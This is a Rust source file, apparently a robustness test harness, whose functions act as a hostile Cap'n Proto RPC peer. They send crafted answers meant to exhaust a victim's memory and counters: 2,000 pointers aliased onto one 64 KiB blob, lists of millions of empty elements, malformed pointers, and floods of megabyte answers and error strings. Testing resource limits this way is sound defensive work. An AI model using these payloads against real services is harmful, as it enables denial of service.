//! Attacks by answering.

use capnp_rpc::rpc_capnp::message;

use crate::floods::Field;
use crate::memory::MIB;
use crate::rpc_support::put_data;
use crate::rpc_support::raw::{Raw, return_with};
use crate::victim::ANSWERS;

pub const SHARED: usize = 65536;

/// Answers whose content has 2,000 pointers to the same 64 KiB.
pub fn shared_answer(peer: &mut Raw, _: &Field) {
    peer.answer_bootstrap();
    for remainder in 1..=ANSWERS {
        let Some((question, _)) = peer.receive_call() else { return };
        let mut message = capnp::message::Builder::new(
            capnp::message::HeapAllocator::new().first_segment_words(1 << 15),
        );
        {
            let mut ret = message.init_root::<message::Builder<'_>>().init_return();
            ret.set_answer_id(question);
            let content = ret.init_results().get_content();
            let mut list = content.initn_as::<capnp::any_pointer_list::Builder<'_>>(2000);
            put_data(list.reborrow().get(0), &[1u8; SHARED]);
            put_data(list.get(1999), &vec![1u8; 8 * remainder]);
        }
        let mut bytes = capnp::serialize::write_message_to_words(&message);
        share_first_data(&mut bytes);
        peer.send(&bytes);
    }
}

/// Lets all pointers after the one to the data of [`SHARED`] bytes, but the last, share it.
pub fn share_first_data(bytes: &mut [u8]) {
    let wanted = 1 | 2 << 32 | (SHARED as u64) << 35;
    let word = |b: &[u8], i: usize| u64::from_le_bytes(b[i * 8..i * 8 + 8].try_into().unwrap());
    let first = (1..bytes.len() / 8)
        .find(|i| word(bytes, *i) & !0xffff_fffc == wanted)
        .expect("the pointer to the data");
    let offset = word(bytes, first) as u32 as i32 >> 2;
    // The odd one is walked first.
    bytes.copy_within((first + 1999) * 8..(first + 2000) * 8, first * 8);
    let odd = word(bytes, first);
    let odd = (odd & !0xffff_ffff) | u64::from((odd as u32).wrapping_add(1999 << 2));
    bytes[first * 8..first * 8 + 8].copy_from_slice(&odd.to_le_bytes());
    for i in 1..2000usize {
        let pointer = (wanted & !0xffff_ffff) | u64::from(((offset - i as i32) << 2) as u32 | 1);
        bytes[(first + i) * 8..(first + i) * 8 + 8].copy_from_slice(&pointer.to_le_bytes());
    }
}

/// Answers that are lists of eight million nothings: nearly as many as the default counter.
pub fn empty_answer(peer: &mut Raw, _: &Field) {
    peer.answer_bootstrap();
    for remainder in 0..ANSWERS as u32 {
        let Some((question, _)) = peer.receive_call() else { return };
        let message = return_with(question, |ret| {
            let content = ret.init_results().get_content();
            let count = 8 * 1024 * 1024 - 2000 - remainder;
            content.initn_as::<capnp::primitive_list::Builder<'_, ()>>(count);
        });
        peer.send(&message);
    }
}

pub fn wrong_pointer_answer(peer: &mut Raw, _: &Field) {
    peer.answer_bootstrap();
    let Some((question, _)) = peer.receive_call() else { return };
    let message = return_with(question, |ret| {
        put_data(ret.init_results().get_content(), b"no structure");
    });
    peer.send(&message);
}

pub fn huge_answers(peer: &mut Raw, _: &Field) {
    peer.answer_bootstrap();
    let data = vec![1u8; MIB];
    for _ in 0..200 {
        let Some((question, _)) = peer.receive_call() else { return };
        let answer = return_with(question, |mut ret| {
            ret.set_no_finish_needed(true);
            put_data(ret.init_results().get_content(), &data);
        });
        peer.send(&answer);
    }
}

pub fn huge_errors(peer: &mut Raw, _: &Field) {
    peer.answer_bootstrap();
    let words = "x".repeat(MIB);
    for _ in 0..200 {
        let Some((question, _)) = peer.receive_call() else { return };
        if !peer.send(&return_with(question, |ret| ret.init_exception().set_reason(&words[..]))) {
            return;
        }
    }
}
